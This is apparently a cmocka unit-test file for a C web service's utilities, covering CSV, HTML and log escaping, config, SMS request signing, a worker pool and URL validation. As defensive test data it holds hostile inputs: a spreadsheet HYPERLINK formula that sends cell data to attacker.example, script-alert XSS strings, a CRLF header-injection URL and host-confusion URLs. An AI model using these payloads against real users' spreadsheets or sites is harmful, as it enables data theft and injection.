/* Tests of src/util/ (strbuf, arena, csvread, csvwrite, timeutil, config, log, sms, workpool,
 * weburl) and src/web/html.c. */
#include <math.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "util/arena.h"
#include "util/config.h"
#include "util/csvread.h"
#include "util/csvwrite.h"
#include "util/log.h"
#include "util/sms.h"
#include "util/strbuf.h"
#include "util/timeutil.h"
#include "util/weburl.h"
#include "util/workpool.h"
#include "web/html.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <unistd.h>

#include <cmocka.h>

static void test_strbuf_max(void **state)
{
    (void)state;
    strbuf sb = STRBUF_INIT_MAX(10);
    assert_string_equal(sb.buf, "");
    assert_int_equal(sb_adds(&sb, "12345"), 0);
    assert_int_equal(sb_addf(&sb, "%d", 6789), 0);
    assert_string_equal(sb.buf, "123456789");
    assert_int_equal(sb_adds(&sb, "ab"), -1); /* would pass the maximum: unchanged */
    assert_string_equal(sb.buf, "123456789");
    assert_int_equal(sb_addc(&sb, '0'), 0);
    assert_int_equal(sb.len, 10);
    assert_int_equal(sb_addc(&sb, 'x'), -1);
    size_t len;
    char *p = sb_detach(&sb, &len);
    assert_int_equal(len, 10);
    assert_string_equal(sb.buf, "");
    free(p);
    sb_release(&sb);
}

static void test_arena(void **state)
{
    (void)state;
    arena a;
    arena_init(&a, 100000);
    char *s = arena_sprintf(&a, "%s-%d", "文云", 7);
    assert_string_equal(s, "文云-7");
    void *big = arena_alloc(&a, 50000);
    assert_non_null(big);
    assert_true(((uintptr_t)big & 15) == 0);
    assert_false(arena_failed(&a));
    assert_null(arena_alloc(&a, 60000)); /* past the budget */
    /* the refusal is remembered, and the pool is spent: nothing is built after the gap */
    assert_true(arena_failed(&a));
    assert_null(arena_alloc(&a, 10));
    assert_null(arena_strdup(&a, "x"));
    assert_null(arena_sprintf(&a, "%s", "x"));
    arena_free(&a); /* as new */
    assert_false(arena_failed(&a));
    assert_non_null(arena_alloc(&a, 10));
    arena_free(&a);
}

static void test_arena_fail_after(void **state)
{
    (void)state;
    arena a;
    arena_init(&a, 0);
    arena_fail_after(&a, 3);
    assert_non_null(arena_alloc(&a, 1));
    assert_non_null(arena_strdup(&a, "two"));
    assert_false(arena_failed(&a));
    assert_null(arena_sprintf(&a, "%d", 3)); /* the third */
    assert_true(arena_failed(&a));
    assert_null(arena_alloc(&a, 1));
    /* strdup of NULL is no allocation and no refusal */
    arena b;
    arena_init(&b, 0);
    arena_fail_after(&b, 1);
    assert_null(arena_strdup(&b, NULL));
    assert_false(arena_failed(&b));
    assert_null(arena_strdup(&b, ""));
    assert_true(arena_failed(&b));
    arena_free(&a);
    arena_free(&b);
    assert_false(arena_failed(NULL));
}

static void test_html_escape(void **state)
{
    (void)state;
    html h;
    html_init(&h);
    html_lit(&h, "<p title=\"");
    html_attr(&h, "a\"b<c>&'");
    html_lit(&h, "\">");
    html_text(&h, "<script>alert(1)</script>");
    html_lit(&h, "</p><a href=\"/x?q=");
    html_url(&h, "文 &=");
    html_lit(&h, "\">");
    assert_string_equal(h.sb.buf, "<p title=\"a&quot;b&lt;c&gt;&amp;&#39;\">"
                                  "&lt;script&gt;alert(1)&lt;/script&gt;</p>"
                                  "<a href=\"/x?q=%E6%96%87%20%26%3D\">");
    sb_release(&h.sb);
}

typedef struct rows {
    int n;
    int lines[10];
    char first[10][64];
    int bad[10];
    size_t nf[10];
} rows;

static int collect(const csv_row *r, void *user)
{
    rows *rs = user;
    if (rs->n < 10) {
        rs->lines[rs->n] = r->line;
        snprintf(rs->first[rs->n], 64, "%s", r->n ? r->f[0] : "");
        rs->bad[rs->n] = r->bad_utf8;
        rs->nf[rs->n] = r->n;
    }
    rs->n++;
    return 0;
}

static void test_csv(void **state)
{
    (void)state;
    const char data[] = "\xef\xbb\xbf"
                        "a,b\r\n"
                        "\"multi\nline\",2\r\n"
                        "\n"
                        "\xd6\xd0,3\n"
                        "last,\"q\"\"uote\"";
    rows rs = {0};
    char err[128];
    assert_int_equal(csv_read_buffer(data, sizeof(data) - 1, collect, &rs, err, sizeof(err)), 0);
    assert_int_equal(rs.n, 4);
    assert_string_equal(rs.first[0], "a");
    assert_int_equal(rs.lines[0], 1);
    assert_string_equal(rs.first[1], "multi\nline");
    assert_int_equal(rs.lines[1], 2);
    assert_int_equal(rs.lines[2], 5); /* after the two-line field and the blank line */
    assert_true(rs.bad[2]);
    assert_int_equal(rs.lines[3], 6);
    assert_false(rs.bad[3]);
    const char open_quote[] = "a,\"b\n";
    rows r2 = {0};
    assert_int_equal(
        csv_read_buffer(open_quote, sizeof(open_quote) - 1, collect, &r2, err, sizeof(err)),
        0); /* libcsv is lenient about an unclosed quote at the end */
    assert_true(utf8_valid("文云", strlen("文云")));
    assert_false(utf8_valid("\xc0\x80", 2));     /* overlong */
    assert_false(utf8_valid("\xed\xa0\x80", 3)); /* surrogate */
    assert_int_equal(utf8_length("文云ab"), 4);
}

/* The CSV writer: byte-order mark, CRLF, quoting, formula-like text neutralised (OWASP:
 * = + - @ tab CR), numbers as numbers; and its files read back as written. */
static void test_csv_write(void **state)
{
    (void)state;
    strbuf sb = STRBUF_INIT;
    csvw w;
    csvw_begin(&w, &sb);
    const char *link = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"点击查看\")";
    csvw_text(&w, link);
    csvw_text(&w, "+86 812");
    csvw_text(&w, "-1");
    csvw_text(&w, "@SUM(A1)");
    csvw_text(&w, "\tx");
    csvw_text(&w, "\rx");
    csvw_row_end(&w);
    csvw_text(&w, "a,b");
    csvw_text(&w, NULL);
    csvw_text(&w, "文云");
    csvw_int(&w, -42);
    csvw_real(&w, -12.5, 1);
    csvw_real(&w, NAN, 3);
    csvw_text(&w, "'=kept");
    csvw_row_end(&w);
    assert_int_equal(csvw_finish(&w), 0);
    assert_string_equal(sb.buf,
                        "\xef\xbb\xbf"
                        "\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"点击查看\"\")\","
                        "'+86 812,'-1,'@SUM(A1),'\tx,\"'\rx\"\r\n"
                        "\"a,b\",,文云,-42,-12.5,,'=kept\r\n");
    /* an importer reads the neutralised text back as it was */
    rows rs = {0};
    char err[128];
    assert_int_equal(csv_read_buffer(sb.buf, sb.len, collect, &rs, err, sizeof(err)), 0);
    assert_int_equal(rs.n, 2);
    assert_string_equal(csvw_plain(rs.first[0]), link);
    assert_string_equal(csvw_plain("'-1"), "-1");
    assert_string_equal(csvw_plain("'kept"), "'kept");
    assert_string_equal(csvw_plain("plain"), "plain");
    assert_true(csvw_formula_like("=1"));
    assert_false(csvw_formula_like("1=1"));
    assert_false(csvw_formula_like(""));
    assert_false(csvw_formula_like(NULL));
    sb_release(&sb);
    /* an output past its maximum is an error, not a silently cut file */
    strbuf small = STRBUF_INIT_MAX(8);
    csvw_begin(&w, &small);
    csvw_text(&w, "一二三四五六七八");
    csvw_row_end(&w);
    assert_int_equal(csvw_finish(&w), -1);
    sb_release(&small);
}

static void test_time(void **state)
{
    (void)state;
    int64_t ms;
    assert_int_equal(time_parse_rfc3339("2026-11-22T14:30:00+08:00", &ms), 0);
    assert_int_equal(ms, 1795329000000LL);
    char buf[40];
    time_format_rfc3339(ms, buf, sizeof(buf), 0);
    assert_string_equal(buf, "2026-11-22T14:30:00+08:00");
    assert_int_equal(time_parse_rfc3339("2026-11-22T06:30:00.5Z", &ms), 0);
    assert_int_equal(ms, 1795329000500LL);
    assert_int_equal(time_parse_rfc3339("2026-11-22 14:30:00", &ms), -1);
    assert_int_equal(time_parse_rfc3339("2026-13-22T14:30:00Z", &ms), -1);
    assert_int_equal(time_parse_rfc3339("2026-11-22T14:30:00+0800", &ms), -1);
}

static void test_config(void **state)
{
    (void)state;
    wy_config c;
    char err[256];
    config_defaults(&c);
    assert_int_equal(c.threads, 8);
    assert_int_equal(config_set(&c, "server", "threads", "4", err, sizeof(err)), 0);
    assert_int_equal(c.threads, 4);
    assert_int_equal(config_set(&c, "server", "threads", "0", err, sizeof(err)), -1);
    assert_non_null(strstr(err, "from 1 to 256"));
    assert_int_equal(config_set(&c, "server", "nothing", "1", err, sizeof(err)), -1);
    assert_non_null(strstr(err, "unknown setting server.nothing"));
    assert_int_equal(config_set(&c, "auth", "cookie_secure", "yes", err, sizeof(err)), 0);
    assert_int_equal(c.cookie_secure, 1);
    char path[] = "/tmp/wy-conf-XXXXXX";
    int fd = mkstemp(path);
    FILE *f = fdopen(fd, "w");
    fputs("[server]\nlisten = 0.0.0.0:9000\n[auth]\nlogin_max_delay_s = 5\nbogus\n", f);
    fclose(f);
    assert_int_equal(config_load(&c, path, err, sizeof(err)), -1);
    assert_non_null(strstr(err, ":5:"));
    assert_string_equal(c.listen, "0.0.0.0:9000");
    assert_int_equal(c.login_max_delay_s, 5);
    unlink(path);
    assert_int_equal(config_load(&c, "/nonexistent/wy.conf", err, sizeof(err)), -1);
}

static void test_log_escape(void **state)
{
    (void)state;
    char out[64];
    const char in[] = "/a\nINFO forged\r\t\x01\x7f \xe6\x96\x87\\";
    size_t n = log_escape(out, sizeof(out), in, sizeof(in) - 1, 0);
    assert_string_equal(out, "/a\\nINFO forged\\r\\t\\x01\\x7f \xe6\x96\x87\\");
    assert_int_equal(n, strlen(out));
    /* a field of a line: spaces too */
    log_escape(out, sizeof(out), "/a b", 4, 1);
    assert_string_equal(out, "/a\\x20b");
    /* what does not fit is left out whole: never half an escape */
    log_escape(out, 6, "ab\ncd", 5, 0);
    assert_string_equal(out, "ab\\nc");
    log_escape(out, 4, "ab\ncd", 5, 0);
    assert_string_equal(out, "ab");
    assert_int_equal(log_escape(out, 1, "x", 1, 0), 0);
    assert_string_equal(out, "");
}

static void test_config_http(void **state)
{
    (void)state;
    wy_config c;
    char err[256];
    config_defaults(&c);
    assert_int_equal(c.small_body_bytes, 64 << 10);
    assert_int_equal(c.max_body_bytes, 8 << 20);
    assert_string_equal(c.public_url, "");
    assert_string_equal(c.trusted_proxies, "");
    assert_int_equal(config_set(&c, "server", "small_body_bytes", "2048", err, sizeof(err)), 0);
    assert_int_equal(c.small_body_bytes, 2048);
    assert_int_equal(config_set(&c, "server", "small_body_bytes", "10", err, sizeof(err)), -1);
    assert_int_equal(
        config_set(&c, "server", "trusted_proxies", "127.0.0.1, 10.0.0.0/8", err, sizeof(err)), 0);
    assert_string_equal(c.trusted_proxies, "127.0.0.1, 10.0.0.0/8");
}

/* The http SMS provider's request: the parameters sorted and percent-encoded, signed with
 * HMAC-SHA256 (the expected signature computed independently, with Python's hmac). */
static void test_sms_http_body(void **state)
{
    (void)state;
    assert_true(sodium_init() >= 0);
    wy_config c;
    config_defaults(&c);
    char err[256];
    assert_int_equal(sms_check_config(&c, err, sizeof(err)), 0); /* log needs nothing */
    assert_int_equal(config_set(&c, "sms", "provider", "http", err, sizeof(err)), 0);
    assert_int_equal(sms_check_config(&c, err, sizeof(err)), -1);
    assert_non_null(strstr(err, "sms.url"));
    snprintf(c.sms_url, sizeof(c.sms_url), "http://127.0.0.1:9/sms");
    snprintf(c.sms_key_id, sizeof(c.sms_key_id), "LTAI-test");
    snprintf(c.sms_secret, sizeof(c.sms_secret), "s3cret");
    snprintf(c.sms_sign_name, sizeof(c.sms_sign_name), "文云");
    snprintf(c.sms_template_register, sizeof(c.sms_template_register), "SMS_001");
    assert_int_equal(sms_check_config(&c, err, sizeof(err)), -1);
    assert_non_null(strstr(err, "template_reset"));
    snprintf(c.sms_template_reset, sizeof(c.sms_template_reset), "SMS_002");
    assert_int_equal(sms_check_config(&c, err, sizeof(err)), 0);
    snprintf(c.sms_url, sizeof(c.sms_url), "https:///sms"); /* no host */
    assert_int_equal(sms_check_config(&c, err, sizeof(err)), -1);
    assert_non_null(strstr(err, "sms.url"));
    snprintf(c.sms_url, sizeof(c.sms_url), "http://127.0.0.1:9/sms");
    assert_int_equal(config_set(&c, "sms", "provider", "carrier-pigeon", err, sizeof(err)), 0);
    assert_int_equal(sms_check_config(&c, err, sizeof(err)), -1);
    snprintf(c.sms_provider, sizeof(c.sms_provider), "http");

    strbuf sb = STRBUF_INIT;
    sms_message m = {"13800000006", "register", "123456"};
    assert_int_equal(sms_http_body(&c, &m, "2026-11-22T06:30:00Z", "abc", &sb), 0);
    assert_string_equal(sb.buf, "AccessKeyId=LTAI-test&PhoneNumbers=13800000006"
                                "&SignName=%E6%96%87%E4%BA%91&SignatureMethod=HMAC-SHA256"
                                "&SignatureNonce=abc&SignatureVersion=1.0&TemplateCode=SMS_001"
                                "&TemplateParam=%7B%22code%22%3A%22123456%22%7D"
                                "&Timestamp=2026-11-22T06%3A30%3A00Z"
                                "&Signature=zC0hiou%2FEDsOSPW5ciBb0SznGMNhi%2BtEvW4gl%2B8S54c%3D");
    sb_reset(&sb);
    m.purpose = "reset";
    assert_int_equal(sms_http_body(&c, &m, "2026-11-22T06:30:00Z", "abc", &sb), 0);
    assert_non_null(strstr(sb.buf, "TemplateCode=SMS_002"));
    sb_release(&sb);
    /* a gateway that is not there: an error, not a crash */
    c.sms_timeout_ms = 500;
    assert_int_equal(sms_provider_named("http")->send(&c, &m, err, sizeof(err)), -1);
    assert_non_null(sms_provider_named("log"));
    assert_null(sms_provider_named("none"));
}

static void square(size_t i, void *ud)
{
    int64_t *v = ud;
    v[i] = (int64_t)i * (int64_t)i;
}

static void test_workpool(void **state)
{
    (void)state;
    assert_true(workpool_cores() >= 1);
    workpool *p = workpool_new(4);
    assert_non_null(p);
    assert_int_equal(workpool_size(p), 4);
    int64_t v[1000];
    for (int round = 0; round < 50; round++) {
        size_t n = (size_t)round * 20;
        memset(v, 0xff, sizeof(v));
        workpool_run(p, n, square, v);
        for (size_t i = 0; i < n; i++)
            assert_int_equal(v[i], (int64_t)i * (int64_t)i);
        if (n < 1000)
            assert_int_equal(v[n], -1); /* nothing past the batch */
    }
    workpool_free(p);
    workpool_run(NULL, 3, square, v); /* no pool: the caller alone */
    assert_int_equal(v[2], 4);
    p = workpool_new(0);
    assert_int_equal(workpool_size(p), workpool_cores());
    workpool_free(p);
}

/* The web addresses people give: a host always, nothing that ends or hides the address. */
static void test_weburl(void **state)
{
    (void)state;
    static const char *good[] = {
        "https://live.example.org/1", "http://example.com",      "HTTPS://Example.COM/a?b=c#d",
        "https://example.com:8443/x", "http://127.0.0.1:9/sms",  "https://[::1]:8080/",
        "https://直播.中国/频道",     "https://a.b/路径?q=文化", "http://localhost",
        "https://x_y.cn#top",
    };
    for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++)
        if (!weburl_valid(good[i], 0))
            fail_msg("refused: %s", good[i]);
    static const char *bad[] = {
        "https://",
        "http://",
        "https:///path",
        "https://?q=1",
        "https://#x",
        "https://:443/",
        "https://example.com:0/",
        "https://example.com:65536/",
        "https://example.com:/",
        "https://example.com:8a/",
        "https://user:pw@example.com/",
        "https://example.com\\@evil/",
        "https://exa mple.com/",
        "https://example.com/a b",
        "https://example.com/\t",
        "https://example.com/x\r\nSet-Cookie: a=b",
        "https://example.com/\x7f",
        "https://example.com/\xc2\x85",
        "https://.example.com/",
        "https://a..b/",
        "https://[::1/",
        "https://[]/",
        "https://[g::1]/",
        "ftp://example.com/",
        "javascript:alert(1)",
        "//example.com/x",
        "/local/path",
        "example.com",
        "",
        "https://example.com/\xff",
        " https://example.com/",
        "https:example.com/x",
        "https:/example.com/x",
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
        if (weburl_valid(bad[i], 0))
            fail_msg("accepted: %s", bad[i]);
    assert_false(weburl_valid(NULL, 0));
    /* a path on this site, when the caller allows one */
    assert_true(weburl_valid("/files/1.jpg", WEBURL_LOCAL));
    assert_true(weburl_valid("https://img.example.org/1.jpg", WEBURL_LOCAL));
    assert_false(weburl_valid("//evil.example/1.jpg", WEBURL_LOCAL));
    assert_false(weburl_valid("/\\evil.example/1.jpg", WEBURL_LOCAL));
    assert_false(weburl_valid("/a\\b.jpg", WEBURL_LOCAL)); /* read as "/a/b.jpg" by some */
    assert_false(weburl_valid("/a b.jpg", WEBURL_LOCAL));
    assert_false(weburl_valid("https://", WEBURL_LOCAL));
    char *long_url = malloc(WEBURL_MAX + 2);
    assert_non_null(long_url);
    memset(long_url, 'a', WEBURL_MAX + 1);
    memcpy(long_url, "https://x/", 10);
    long_url[WEBURL_MAX + 1] = '\0';
    assert_false(weburl_valid(long_url, 0));
    long_url[WEBURL_MAX] = '\0';
    assert_true(weburl_valid(long_url, 0));
    free(long_url);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_strbuf_max),
        cmocka_unit_test(test_arena),
        cmocka_unit_test(test_arena_fail_after),
        cmocka_unit_test(test_html_escape),
        cmocka_unit_test(test_csv),
        cmocka_unit_test(test_time),
        cmocka_unit_test(test_config),
        cmocka_unit_test(test_csv_write),
        cmocka_unit_test(test_log_escape),
        cmocka_unit_test(test_config_http),
        cmocka_unit_test(test_sms_http_body),
        cmocka_unit_test(test_workpool),
        cmocka_unit_test(test_weburl),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
